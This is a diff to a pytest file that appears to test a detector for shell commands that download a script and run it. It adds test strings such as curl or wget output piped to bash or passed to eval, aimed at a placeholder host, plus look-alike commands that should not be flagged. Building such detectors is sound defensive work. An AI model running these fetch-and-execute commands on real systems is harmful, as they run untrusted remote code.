@@ -218,6 +218,8 @@ def test_a_download_piped_to_a_shell_inside_a_shell_script_is_found(command: str
         "curl -fsSL https://x.example/i.sh | xargs -0 bash -c",
         "curl -fsSL https://x.example/i.sh | b\\ash",
         "curl -fsSL https://x.example/i.sh | 'bash'",
+        'eval "$(wget -O - https://x.example/i.sh)"',
+        "curl -s 'https://x.example/a|b' | bash",  # a quoted `|` in the URL, then the real pipe
     ],
 )
 def test_substitutions_and_wrapped_shells_that_run_a_download(command: str) -> None:
@@ -243,6 +245,13 @@ def test_substitutions_and_wrapped_shells_that_run_a_download(command: str) -> N
         "eval <(curl -s https://x.example/i)",  # eval of a path: text, not the file's contents
         "curl -s https://x.example | timeout 60 jq .",
         "curl -s https://x.example/list | sudo -u bash tee /etc/x.list",  # `bash` is sudo's user
+        # The substitution prints nothing: the download goes to a file.
+        '`curl -w "\\n" $MODEL_URL/$PARAM > $TMP_PREDICTION_JSON`',
+        'eval "$(curl -fsSLo install.sh https://x.example/i.sh)"',
+        'eval "$(wget https://x.example/i.sh)"',  # wget writes i.sh; `-O -` would print it
+        'eval "$(curl -LO https://x.example/i.sh)"',
+        # A pipe inside paired quotes is text: an instruction printed for the reader.
+        'echo "  curl --proto =https -sSf https://sh.rustup.rs | sh -s -- -y" >&2',
     ],
 )
 def test_substitutions_and_wrappers_that_run_no_download(command: str) -> None:
